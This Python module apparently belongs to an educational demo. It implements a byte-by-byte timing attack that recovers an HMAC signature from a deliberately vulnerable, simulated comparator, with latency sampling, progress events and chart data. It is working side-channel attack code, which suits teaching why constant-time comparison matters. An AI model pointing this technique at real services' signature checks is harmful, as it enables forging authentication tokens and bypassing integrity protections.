"""
Byte-at-a-time timing attack against the vulnerable comparator.
"""

import asyncio
from dataclasses import dataclass
from typing import List, Optional

from hmac_timing.core.events import (
    ByteResolved, CancellationToken, CandidateMeasured,
    PhaseChanged, PositionStarted, ProgressChannel
)
from hmac_timing.core.exceptions import (
    AttackInProgressError, DigestUnavailableError, InvalidPhaseTransition
)
from hmac_timing.core.interfaces import (
    AttackPhase, ByteTimingRecord, Digest, DigestLike, ILogger, ISampler,
    RecoveryState, TimingDataPoint, as_bytes, byte_to_hex
)
from hmac_timing.services.analysis_service import AnalysisService
from hmac_timing.utils.logger import Logger


CANDIDATE_VALUES = range(256)


@dataclass
class AttackConfig:
    """Tuning for one attack run."""
    delay_per_byte: float = 25.0  # ms
    samples_per_byte: int = 5


class TimingAttacker:
    """
    Byte-by-byte signature recovery.

    Algorithm:
    1. Start with an empty recovered prefix
    2. For each position:
        a. Try all 256 byte values, zero-filling the unknown suffix
        b. Take the median latency of several comparisons for each
        c. Keep the first candidate with the highest latency
    3. Repeat until every position is resolved

    Why this works:
    - The comparator stops at the first mismatching byte
    - The correct byte lets it proceed one byte further
    - One extra per-byte delay = measurable time difference

    Example:
        >>> attacker = TimingAttacker(TimingService(VulnerableComparator()))
        >>> recovered = await attacker.run(reference, 20, delay_per_byte=25, samples_per_byte=5)
        >>> recovered == reference
        True
    """

    def __init__(
        self,
        sampler: ISampler,
        analyzer: Optional[AnalysisService] = None,
        channel: Optional[ProgressChannel] = None,
        logger: Optional[ILogger] = None
    ):
        """
        Initialize timing attacker.

        Args:
            sampler: Produces one latency estimate per candidate
            analyzer: Diagnostic analysis of each resolved position
            channel: Progress event stream for observers
            logger: Logger instance
        """
        self.sampler = sampler
        self.logger = logger or Logger.for_component("attack")
        self.analyzer = analyzer or AnalysisService(logger=self.logger)
        self.channel = channel or ProgressChannel()
        self._state = RecoveryState()
        self._active = False

    @property
    def state(self) -> RecoveryState:
        """Snapshot of the recovery state; may be stale as soon as it is read."""
        return self._state.snapshot()

    @property
    def is_active(self) -> bool:
        return self._active

    def reset(self) -> None:
        """
        Return to idle and discard recovered bytes.

        Raises:
            InvalidPhaseTransition: If an attack is running
        """
        if self._active:
            raise InvalidPhaseTransition(self._state.phase.value, AttackPhase.IDLE.value)
        self._state = RecoveryState()
        self.channel.publish(PhaseChanged(AttackPhase.IDLE))

    async def run(
        self,
        reference: DigestLike,
        total_bytes: int,
        delay_per_byte: float,
        samples_per_byte: int,
        cancellation_token: Optional[CancellationToken] = None
    ) -> Optional[Digest]:
        """
        Recover the signature that ``reference`` holds.

        Args:
            reference: Correct digest the oracle compares against
            total_bytes: Signature length to recover
            delay_per_byte: Oracle delay in ms per matching byte
            samples_per_byte: Comparisons per candidate
            cancellation_token: Checked before every candidate trial

        Returns:
            The recovered signature, or None if the run was cancelled

        Raises:
            AttackInProgressError: If this attacker is already running
            DigestUnavailableError: If the reference digest is empty
        """
        if self._active:
            raise AttackInProgressError()
        if self._state.phase != AttackPhase.IDLE:
            raise InvalidPhaseTransition(self._state.phase.value, AttackPhase.RUNNING.value)

        token = cancellation_token or CancellationToken()
        reference_bytes = as_bytes(reference)

        if not reference_bytes:
            self._fail("Reference digest is not available; compute it before attacking")
            raise DigestUnavailableError()

        self._active = True
        try:
            self._state = RecoveryState(phase=AttackPhase.RUNNING)
            self.channel.publish(PhaseChanged(AttackPhase.RUNNING))
            self.logger.info(
                f"Starting timing attack: {total_bytes} bytes, "
                f"{delay_per_byte}ms/byte, {samples_per_byte} samples"
            )

            for byte_index in range(total_bytes):
                best = await self._crack_next_byte(
                    reference_bytes, byte_index, total_bytes,
                    delay_per_byte, samples_per_byte, token
                )

                if best is None:
                    self.logger.info(f"Attack cancelled at byte {byte_index}")
                    self._state.phase = AttackPhase.IDLE
                    self.channel.publish(PhaseChanged(AttackPhase.IDLE, "Attack cancelled"))
                    return None

                self._state.recovered_prefix += bytes([best])
                self._state.current_byte_index = byte_index + 1

                analysis = self.analyzer.analyze_position(byte_index, self._state.records, best)
                self.channel.publish(ByteResolved(
                    byte_index=byte_index,
                    byte=byte_to_hex(best),
                    recovered_prefix=self._state.recovered_hex,
                    margin=analysis.margin
                ))
                self.logger.info(f"[+] Found byte {byte_to_hex(best)} -> {self._state.recovered_hex}")

            self._state.phase = AttackPhase.COMPLETE
            self.channel.publish(PhaseChanged(AttackPhase.COMPLETE))
            self.logger.info(f"[+] Attack complete: {self._state.recovered_hex}")
            return Digest(self._state.recovered_prefix)

        except asyncio.CancelledError:
            self._state.phase = AttackPhase.IDLE
            self.channel.publish(PhaseChanged(AttackPhase.IDLE, "Attack task cancelled"))
            raise
        except Exception as e:
            self._fail(f"Attack failed at byte {self._state.current_byte_index}: {str(e)}")
            raise
        finally:
            self._active = False

    async def _crack_next_byte(
        self,
        reference: bytes,
        byte_index: int,
        total_bytes: int,
        delay_per_byte: float,
        samples_per_byte: int,
        token: CancellationToken
    ) -> Optional[int]:
        """
        Time every candidate value for one position.

        Returns:
            The first candidate with the highest latency, or None if cancelled
        """
        self._state.records = []
        self._state.best_candidate = None
        self.channel.publish(PositionStarted(byte_index, total_bytes))
        self.logger.debug(f"Position {byte_index + 1}/{total_bytes}: '{self._state.recovered_hex}'")

        known = self._state.recovered_prefix
        padding = bytes(total_bytes - byte_index - 1)
        max_latency = -1.0
        best: Optional[int] = None

        for candidate_byte in CANDIDATE_VALUES:
            if token.cancelled:
                return None

            candidate = known + bytes([candidate_byte]) + padding
            latency = await self.sampler.estimate(
                candidate, reference, delay_per_byte, samples_per_byte
            )

            self._state.records.append(ByteTimingRecord(candidate_byte, latency))

            # strictly greater: the first candidate reaching the maximum wins ties
            if latency > max_latency:
                max_latency = latency
                best = candidate_byte
                self._state.best_candidate = best

            self.channel.publish(CandidateMeasured(
                byte_index=byte_index,
                records=self._chart_points(self._state.records),
                best_candidate=byte_to_hex(best) if best is not None else None
            ))

        return best

    @staticmethod
    def _chart_points(records: List[ByteTimingRecord]):
        return tuple(TimingDataPoint(r.byte_hex, r.latency) for r in records)

    def _fail(self, message: str) -> None:
        self.logger.error(message)
        self._state.phase = AttackPhase.ERROR
        self._state.message = message
        self.channel.publish(PhaseChanged(AttackPhase.ERROR, message))
